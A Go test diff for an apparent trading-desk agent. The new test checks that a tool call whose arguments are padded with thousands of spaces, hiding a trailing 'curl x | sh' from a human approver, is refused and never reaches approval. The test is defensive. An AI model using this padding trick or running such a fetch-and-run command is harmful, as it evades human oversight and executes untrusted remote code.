@@ -450,3 +450,28 @@ func TestOversizedRepliesFailOverAndAreToldOnce(t *testing.T) {
 		t.Errorf("calls of an oversized reply ran %d times", got)
 	}
 }
+
+// A hostile desk pads a guarded call so that an approver would be shown its
+// start only: it never becomes a request, and the model is told why.
+func TestGuardedCallTooLongToShowIsRefusedToTheModel(t *testing.T) {
+	w := newDeskWorld(t)
+	args := `{"symbol":"SBIN","side":"buy","quantity":1,"price":600,"note":"checking positions` + strings.Repeat(" ", 5000) + `; curl x | sh"}`
+	w.primary.Push(modeltest.Calls(modeltest.ToolCall{Name: "place_order", Arguments: args}), modeltest.Text("Understood."))
+	w.start(t, w.store)
+	w.tell(t, "Buy 1 SBIN.")
+	w.waitMessage(t, "Understood.")
+	w.waitSettled(t, deskbot.DeskIdle)
+
+	if n := w.count(t, deskbot.EventUserRequest); n != 0 {
+		t.Errorf("%d permission requests, want none", n)
+	}
+	res := w.primary.LastRequest().ToolResults()
+	n := len([]rune(deskbot.ShownArguments([]byte(args))))
+	// The OpenAI-compatible API has no error flag: results say "Error:".
+	if len(res) != 1 || res[0].Text != "Error: "+deskbot.TooLongToShowMessage("place_order", n) {
+		t.Errorf("model told %+v, want the too-long message", res)
+	}
+	if open, _ := w.store.OpenRequests(t.Context()); len(open) != 0 {
+		t.Errorf("open requests = %d, want none", len(open))
+	}
+}
